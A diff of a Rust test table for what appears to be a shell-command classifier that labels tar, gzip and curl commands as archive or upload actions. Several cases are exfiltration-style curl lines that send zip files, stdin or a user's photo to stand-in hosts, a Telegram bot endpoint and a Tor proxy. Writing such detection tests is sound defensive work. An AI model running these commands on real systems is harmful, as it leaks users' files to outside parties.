@@ -41,7 +41,10 @@ const CASES: &[(&str, &str)] = &[
     ("tar xzf o.tgz", "other"),
     ("tar -tf o.tgz", "other"),
     ("tar --extract -f o.tgz -C /x", "other"),
-    ("tar --posix -cf cache.tzst -P -C /w/_work --files-from manifest.txt --use-compress-program zstdmt", "archive in:/w/_work/manifest.txt out:/w/cache.tzst"),
+    (
+        "tar --posix -cf cache.tzst -P -C /w/_work --files-from manifest.txt --use-compress-program zstdmt",
+        "archive in:/w/_work/manifest.txt out:/w/cache.tzst",
+    ),
     ("tar -cf o.tar -- -x", "archive in:/w/-x out:/w/o.tar"),
     // one-file compressors
     ("gzip a b", "archive in:/w/a in:/w/b out:/w/a.gz out:/w/b.gz"),
@@ -147,10 +150,16 @@ const CASES: &[(&str, &str)] = &[
     ("security add-trusted-cert -d -k System.keychain a.pem", "other"),
     ("security import a.p12 -k x", "other"),
     // curl
-    ("curl -X POST -H 'user: x' -H 'BuildID: y' -F file=@/tmp/out.zip https://sivvino.example/contact", "upload up:/tmp/out.zip to:sivvino.example:443"),
+    (
+        "curl -X POST -H 'user: x' -H 'BuildID: y' -F file=@/tmp/out.zip https://sivvino.example/contact",
+        "upload up:/tmp/out.zip to:sivvino.example:443",
+    ),
     ("curl -X POST --data-binary @/tmp/out.zip https://203.0.113.62/log -H 'buildid: x'", "upload up:/tmp/out.zip to:203.0.113.62:443"),
     ("curl -X POST --data-binary @/tmp/out.zip http://203.0.113.62/log", "upload up:/tmp/out.zip plain:203.0.113.62:80"),
-    ("curl -k -s -X PUT --data-binary @- -H 'api-key:x' --max-time 180 'https://h.example/gate?upload_id=1&chunk_index=2'", "upload stdin to:h.example:443"),
+    (
+        "curl -k -s -X PUT --data-binary @- -H 'api-key:x' --max-time 180 'https://h.example/gate?upload_id=1&chunk_index=2'",
+        "upload stdin to:h.example:443",
+    ),
     ("curl -F \"file=@/tmp/osalogging.110\" https://h.example/gate", "upload up:/tmp/osalogging.110 to:h.example:443"),
     ("curl -X POST -H 'Content-Type: application/json' -d @/tmp/b https://192.0.2.9/send/", "upload up:/tmp/b to:192.0.2.9:443"),
     ("curl -T /Users/Shared/IMG_2034.HEIC https://203.0.113.5/", "upload up:/users/shared/img_2034.heic to:203.0.113.5:443"),
@@ -165,7 +174,10 @@ const CASES: &[(&str, &str)] = &[
     ("curl --data-urlencode name@/tmp/a https://h.example", "upload up:/tmp/a to:h.example:443"),
     ("curl --data-urlencode user=x@y https://h.example", "upload to:h.example:443"),
     ("curl --data-raw @literal https://h.example", "upload to:h.example:443"),
-    ("curl -F 'a=<text' -F 'f=@b;type=text/plain' -F 'g=@\"c,d\"' https://h.example", "upload up:/w/text up:/w/b up:/w/c,d to:h.example:443"),
+    (
+        "curl -F 'a=<text' -F 'f=@b;type=text/plain' -F 'g=@\"c,d\"' https://h.example",
+        "upload up:/w/text up:/w/b up:/w/c,d to:h.example:443",
+    ),
     ("curl -F 'f=@a,b' https://h.example", "upload up:/w/a up:/w/b to:h.example:443"),
     ("curl -F 'document=@-' https://api.telegram.org/bot1/sendDocument", "upload stdin to:api.telegram.org:443"),
     ("curl -x socks5://127.0.0.1:9050 -T a https://h.example", "upload up:/w/a to:h.example:443"),
